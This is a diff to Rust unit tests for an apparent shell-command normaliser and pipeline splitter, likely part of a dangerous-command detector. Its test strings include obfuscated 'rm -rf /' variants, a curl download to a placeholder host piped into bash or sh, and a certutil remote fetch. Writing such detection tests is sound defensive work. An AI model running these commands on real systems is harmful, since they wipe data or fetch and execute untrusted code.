@@ -24,6 +24,8 @@ fn pipelines(text: &str) -> Vec<String> {
 fn one_command_has_one_form() {
     for text in [
         "rm -rf /",
+        "$ rm -rf /",
+        "root@host:~# rm -rf /",
         "rm  -rf\t/ # everything",
         "'rm' -rf \"/\"",
         "r\\m -r'f' /",
@@ -80,9 +82,9 @@ fn pipelines_are_told_apart() {
     );
     assert!(
         pipelines("curl -sSLo /tmp/x h && bash /tmp/x")
-            .contains(&"curl -sSLo /tmp/x h | bash /tmp/x".to_owned())
+            .contains(&"curl -sSLo /tmp/x h | sh /tmp/x".to_owned())
     );
-    assert_eq!(pipelines(r"C:\Windows\certutil.exe -f \\h\a"), [r"C:\Windows\certutil.exe -f \h\a"]);
+    assert_eq!(pipelines(r"C:\Windows\certutil.exe -f \\h\a"), [r"C:\Windows\certutil.exe -f \\h\a"]);
 }
 
 #[test]
